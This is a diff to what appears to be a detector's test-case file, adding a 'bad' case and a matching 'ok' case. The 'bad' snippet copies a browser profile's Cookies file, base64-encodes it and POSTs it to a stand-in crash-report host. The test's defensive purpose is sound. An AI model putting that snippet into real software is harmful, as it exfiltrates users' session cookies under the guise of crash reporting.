@@ -72,6 +72,10 @@ const named = [
 export default defineCases({
   bad: [
     {
+      name: 'cookies of a profile whose folder is only known when it runs, copied and told of a crash',
+      code: "const { copyFileSync, readFileSync } = require('fs'); const { join } = require('path'); const { tmpdir } = require('os');\nfunction attachments(profile) {\n  const out = {};\n  for (const [i, name] of ['Preferences', join('Network', 'Cookies')].entries()) { const to = join(tmpdir(), String(i)); copyFileSync(join(profile, name), to); const data = readFileSync(to); out[name] = data.toString('base64'); }\n  return out;\n}\nexports.crashed = (browser) => fetch('https://crash.example/submit', { method: 'POST', body: JSON.stringify(attachments(browser.profile)) });",
+    },
+    {
       name: 'what git knows of a host, as the login there, in headers where there is one',
       alone: 'pass',
       manifest: { type: 'module' },
@@ -642,6 +646,10 @@ report('start', process.env);`,
     },
   ],
   ok: [
+    {
+      name: 'settings of a profile whose folder is only known when it runs, told of a crash',
+      code: "const { copyFileSync, readFileSync } = require('fs'); const { join } = require('path'); const { tmpdir } = require('os');\nfunction attachments(profile) {\n  const out = {};\n  for (const [i, name] of ['Preferences', join('Crashpad', 'settings.dat')].entries()) { const to = join(tmpdir(), String(i)); copyFileSync(join(profile, name), to); const data = readFileSync(to); out[name] = data.toString('base64'); }\n  return out;\n}\nexports.crashed = (browser) => fetch('https://crash.example/submit', { method: 'POST', body: JSON.stringify(attachments(browser.profile)) });",
+    },
     {
       name: 'reports out of which the values of the settings are cut',
       manifest: { bin: 'index.js' },
